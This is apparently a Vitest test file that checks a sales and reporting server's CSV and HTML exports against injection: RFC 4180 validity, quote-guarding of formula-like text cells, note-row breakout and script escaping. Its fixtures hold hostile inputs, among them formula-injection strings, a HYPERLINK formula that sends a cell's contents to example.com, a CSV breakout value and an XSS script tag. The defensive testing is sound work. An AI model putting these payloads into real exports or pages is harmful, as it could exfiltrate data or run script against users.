/**
 * The csv text of every tool that takes a format: valid RFC 4180 on every line (note rows included),
 * and no cell a spreadsheet would run as a formula (OWASP CSV injection), while numbers stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GROUPINGS } from '../../src/modules/reports/reports.schemas.js';
import { call, ok, startInProcess, type Harness } from '../helpers.js';

/** A strict RFC 4180 reader: it throws on anything a writer must not produce. */
function parseCsv(text: string): string[][] {
  if (!text.endsWith('\r\n')) throw new Error('the last line does not end with CRLF');
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('a quoted field is not closed');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"')
          throw new Error(`a quote inside an unquoted field at ${i}: ${text.slice(0, i + 1)}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      throw new Error(`${JSON.stringify(text[i])} after a field at ${i}: ${text.slice(0, i + 1)}`);
    }
  }
  return rows;
}

/** What a spreadsheet reads as the start of a formula. */
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]\d+)?$/;

/** The text values a client or a line may have: every formula start, and a string that looks numeric. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '-5',
  '=HYPERLINK("http://example.com/?x="&A1,"click")',
];
/** Breaks out of an unescaped note row (client_balance writes the client's name in it). */
const BREAKOUT = '","=1+1';

const isNote = (row: string[]) => row.length === 1 && (row[0] ?? '').startsWith('# ');

interface Csv {
  header: string[];
  rows: string[][];
  notes: string[];
}

/** Reads a tool's csv and checks the shape and the cells of every line. */
function readCsv(where: string, text: string): Csv {
  const all = parseCsv(text);
  const notes = all.filter(isNote).map((r) => r[0] ?? '');
  const [header = [], ...rows] = all.filter((r) => !isNote(r));
  expect(header.length, `${where}: header`).toBeGreaterThan(1);
  for (const [n, row] of rows.entries()) expect(row, `${where}: row ${n + 1}`).toHaveLength(header.length);
  for (const row of all)
    for (const cell of row)
      if (FORMULA.test(cell)) expect(cell, `${where}: a cell starts like a formula`).toMatch(NUMBER);
  return { header, rows, notes };
}

/** The cell a value must give: numbers as they are, text guarded by a quote when it starts a formula. */
function expectedCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  const text = typeof value === 'object' ? JSON.stringify(value) : String(value);
  return FORMULA.test(text) ? `'${text}` : text;
}

/** Every row of the csv holds exactly the values of the structured rows, in the header's order. */
function expectCells(where: string, csv: Csv, items: Record<string, unknown>[]) {
  expect(csv.rows, where).toHaveLength(items.length);
  for (const [n, item] of items.entries())
    expect(csv.rows[n], `${where}: row ${n + 1}`).toEqual(csv.header.map((c) => expectedCell(item[c])));
}

const text = (r: { content: { text?: string }[] }) => r.content[0]?.text ?? '';

describe('csv cells', () => {
  let h: Harness;
  const clients: number[] = [];
  let breakout = 0;
  let refunded = { id: 0, total: 0 };
  /** Arguments to call each tool with; tools not named here are called with a large page. */
  let argsOf: Record<string, Record<string, unknown>[]> = {};

  beforeAll(async () => {
    h = await startInProcess({ clock: () => new Date('2026-11-21T14:00:00Z') });
    const card = (
      await ok<{ items: { id: number; type: string; refund: boolean }[] }>(
        h.client,
        'data_list_payments_modes',
      )
    ).items.find((m) => m.type === 'card' && !m.refund)?.id;
    const names = [...HOSTILE.map((v, i) => [v, HOSTILE[(i + 1) % HOSTILE.length]!]), [BREAKOUT, '\r\n=2+2']];
    for (const [i, [firstname, lastname]] of names.entries()) {
      const sale = await ok<{ id: number; total: number; client: { id: number } }>(h.client, 'sale_create', {
        deliveryMethod: 1,
        deliveryTime: '2026-11-21T19:00',
        publicComment: HOSTILE[i % HOSTILE.length],
        client: {
          firstname,
          lastname,
          phone: '+33 6 12 34 56 78',
          email: '=a@example.com',
          address: '@home, 1 rue "X"',
          city: '-Paris',
        },
        items: [
          { type: 'free', price: 3.5, title: HOSTILE[(i + 2) % HOSTILE.length] },
          'Free_2_=1+1',
          { productName: 'Café', titleOverride: '-1 Café' },
        ],
        ...(i === 0 && card ? { payment: card } : {}),
      });
      clients.push(sale.client.id);
      if (firstname === BREAKOUT) breakout = sale.client.id;
      if (i === 0) refunded = { id: sale.id, total: sale.total };
    }
    await ok(h.client, 'order_refund', { orderId: refunded.id, reason: '=1+1' });
    const grouped = [{}, ...GROUPINGS.map((groupBy) => ({ groupBy }))];
    argsOf = {
      client_balance: clients.map((clientId) => ({ clientId })),
      report_summary: grouped,
      report_compare: grouped,
      report_get: [{}, { type: 'm' }],
      report_cash: [{}],
      deliveries_schedule: [{ window: 'today' }],
      data_list_orders: [{ limit: 500 }, { validatedOrders: false, limit: 500 }],
    };
  });
  afterAll(() => h.close());

  /** Every tool of tools/list that takes a format, with the arguments to call it with. */
  async function formatCalls(): Promise<[string, Record<string, unknown>][]> {
    const { tools } = await h.client.listTools();
    const withFormat = tools.filter((t) => t.inputSchema.properties && 'format' in t.inputSchema.properties);
    return withFormat.flatMap((t) =>
      (argsOf[t.name] ?? [{ limit: 500 }]).map((a) => [t.name, a] as [string, Record<string, unknown>]),
    );
  }

  it('every csv of every tool is RFC 4180 on every line and has no formula cell', async () => {
    const calls = await formatCalls();
    const tools = new Set(calls.map(([name]) => name));
    for (const name of [
      'data_list_clients',
      'data_list_orders',
      'deliveries_schedule',
      'report_summary',
      'report_compare',
      'report_get',
      'report_cash',
      'client_balance',
    ])
      expect(tools, name).toContain(name);
    for (const [name, args] of calls) {
      const r = await call(h.client, name, { ...args, format: 'csv' });
      const where = `${name} ${JSON.stringify(args)}`;
      expect(r.isError, `${where}: ${text(r)}`).toBeFalsy();
      const csv = readCsv(where, text(r));
      expect(csv.notes.length, `${where}: notes`).toBeLessThanOrEqual(1);
    }
  });

  it('text cells that start a formula get a quote; numbers, negative ones too, stay as they are', async () => {
    const clientsCsv = await call(h.client, 'data_list_clients', { format: 'csv', limit: 500 });
    const clientItems = (clientsCsv.structuredContent as { items: Record<string, unknown>[] }).items;
    const list = readCsv('data_list_clients', text(clientsCsv));
    expectCells('data_list_clients', list, clientItems);
    const mine = list.rows.filter((r) => clients.includes(Number(r[0])));
    expect(mine.map((r) => r[list.header.indexOf('firstname')])).toEqual([
      ...HOSTILE.map((v) => `'${v}`),
      BREAKOUT,
    ]);
    for (const r of mine) {
      expect(r[list.header.indexOf('phone')]).toBe("'+33 6 12 34 56 78");
      expect(r[list.header.indexOf('city')]).toBe("'-Paris");
      expect(r[list.header.indexOf('address')]).toBe('\'@home, 1 rue "X"');
    }
    // the structured content keeps the values as they are
    expect(clientItems.find((c) => c.id === clients[6])?.firstname).toBe('-5');

    const orders = await call(h.client, 'data_list_orders', { format: 'csv', limit: 500 });
    const orderItems = (orders.structuredContent as { items: Record<string, unknown>[] }).items;
    const o = readCsv('data_list_orders', text(orders));
    expectCells('data_list_orders', o, orderItems);
    const credit = orderItems.find((i) => i.kind === 'credit_note');
    expect(credit?.total).toBe(-refunded.total);
    const creditRow = o.rows.find((r) => r[0] === String(credit?.id));
    expect(creditRow?.[o.header.indexOf('total')]).toBe(String(-refunded.total)); // -x, no quote
    expect(creditRow?.[o.header.indexOf('client')]).toBe(`'${HOSTILE[0]} ${HOSTILE[1]}`);

    const deliveries = await call(h.client, 'deliveries_schedule', { window: 'today', format: 'csv' });
    const d = readCsv('deliveries_schedule', text(deliveries));
    expectCells(
      'deliveries_schedule',
      d,
      (deliveries.structuredContent as { items: Record<string, unknown>[] }).items,
    );
    expect(d.rows.map((r) => r[d.header.indexOf('comment')])).toEqual(
      expect.arrayContaining(HOSTILE.map((v) => `'${v}`)),
    );

    const byClient = await call(h.client, 'report_summary', { groupBy: 'client', format: 'csv' });
    const g = readCsv('report_summary by client', text(byClient));
    const groups = (byClient.structuredContent as { groups: Record<string, unknown>[] }).groups;
    expectCells('report_summary by client', g, groups);
    expect(g.rows.map((r) => r[g.header.indexOf('label')])).toContain("'=1+1 +1+1");

    const balance = await call(h.client, 'client_balance', { clientId: clients[1], format: 'csv' });
    const b = readCsv('client_balance', text(balance));
    expectCells(
      'client_balance',
      b,
      (balance.structuredContent as { unpaidOrders: Record<string, unknown>[] }).unpaidOrders,
    );
  });

  it("client_balance's note is one cell: a client's name cannot break out of it", async () => {
    const r = await call(h.client, 'client_balance', { clientId: breakout, format: 'csv' });
    const lines = parseCsv(text(r));
    const note = lines.at(-1) ?? [];
    expect(note).toHaveLength(1);
    expect(note[0]).toMatch(/^# ","=1\+1 {2}=2\+2 \(client \d+\), all time: 1 orders, ordered /);
    const empty = await call(h.client, 'client_balance', {
      clientId: breakout,
      from: '2020-01-01',
      to: '2020-01-02',
      format: 'csv',
    });
    expect(empty.isError, text(empty)).toBeFalsy();
    const none = readCsv('client_balance, no order', text(empty));
    expect(none.rows).toHaveLength(0);
    expect(none.header).toEqual([
      'id',
      'number',
      'date',
      'total',
      'refunded',
      'paid',
      'due',
      'paymentStatus',
    ]);
    expect(none.notes[0]).toMatch(/^# ","=1\+1 {2}=2\+2 \(client \d+\), from 2020-01-01T02:00/);
  });

  it('html stays escaped', async () => {
    await ok(h.client, 'sale_create', {
      items: ['Free_1_Test'],
      client: { firstname: '=1+1', lastname: '<script>alert(1)</script>' },
    });
    for (const [name, args] of await formatCalls()) {
      const r = await call(h.client, name, { ...args, format: 'html' });
      expect(r.isError, name).toBeFalsy();
      expect(text(r), name).not.toMatch(/<script|<\/script|"&A1/);
    }
    const list = await call(h.client, 'data_list_clients', { format: 'html', limit: 500 });
    expect(text(list)).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(text(list)).toContain('<td>=1+1</td>'); // html is not a spreadsheet: no quote there
  });
});
